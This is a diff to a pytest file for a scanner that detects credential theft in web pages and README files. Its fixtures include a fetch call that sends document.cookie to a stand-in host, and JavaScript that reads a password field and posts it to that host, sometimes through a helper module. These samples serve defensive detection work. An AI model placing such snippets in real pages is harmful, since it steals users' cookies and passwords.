@@ -5,7 +5,7 @@ import json
 import pytest
 
 from modelscan_plus.core.finding import Severity
-from tests.samples import inspect
+from tests.samples import inspect, inspect_tree
 
 URL = "https://c.example"
 FIELDS = "<input name=user><input id=pw name=pw type=password>"
@@ -124,3 +124,31 @@ def test_scripts_that_a_card_has_pasted() -> None:
     card = "# Demo\n\n```js\nfetch('https://c.example/?c='+document.cookie)\n```\n"
     assert denied("README.md", card)
     assert not denied("README.md", card.replace("document.cookie", "'x'"))
+
+
+PAGE = "<!doctype html><html><body><input id=em><input id=pw type=password><script type=module src=a.js></script></body></html>"
+SENDS = "export function report(o) {{\n  return fetch('{}', {{ method: 'POST', body: JSON.stringify(o) }});\n}}\n"
+CALLS = "import {{ report }} from './lib/m.js';\n{}report({{ p: document.getElementById('{}').value }});\n"
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"a.js": f"const p = document.getElementById('pw').value;\nfetch('{URL}', {{ body: p }});\n"}, True),
+        ({"a.js": f"const p = document.getElementById('em').value;\nfetch('{URL}', {{ body: p }});\n"}, False),
+        (
+            {
+                "a.js": f"const p = document.getElementById('pw').value;\nconst r = await fetch('{URL}', {{ body: p }});\n"
+            },
+            False,
+        ),
+        ({"a.js": "const p = document.getElementById('pw').value;\nfetch('/login', { body: p });\n"}, False),
+        ({"a.js": CALLS.format("", "pw"), "lib/m.js": SENDS.format(URL)}, True),
+        ({"a.js": CALLS.format("", "em"), "lib/m.js": SENDS.format(URL)}, False),
+        ({"a.js": CALLS.format("const r = await ", "pw"), "lib/m.js": SENDS.format(URL)}, False),
+        ({"a.js": CALLS.format("", "pw"), "lib/m.js": SENDS.format("/collect")}, False),
+    ],
+)
+def test_pages_whose_files_give_away_what_they_ask_for_together(files: dict[str, str], expected: bool) -> None:
+    found = inspect_tree({path: text.encode() for path, text in {"index.html": PAGE, **files}.items()})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
